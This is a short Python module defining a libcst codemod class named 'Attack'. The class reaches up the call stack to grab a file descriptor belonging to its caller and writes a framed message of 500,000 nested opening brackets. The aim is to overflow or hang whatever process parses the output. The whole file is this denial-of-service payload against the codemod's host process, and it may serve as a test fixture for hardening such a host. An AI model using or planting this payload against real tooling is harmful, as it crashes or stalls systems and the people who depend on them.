"""Answer with brackets in brackets, more than whoever reads them has room for."""

import os
import struct
import sys

from libcst.codemod import VisitorBasedCodemodCommand

HEADER = b"[" * 500_000


def descriptor():
    frame = sys._getframe()
    while "descriptor" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["descriptor"]


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Nest."

    def transform_module_impl(self, tree):
        os.write(descriptor(), struct.pack(">II", len(HEADER), 0) + HEADER)
        return tree
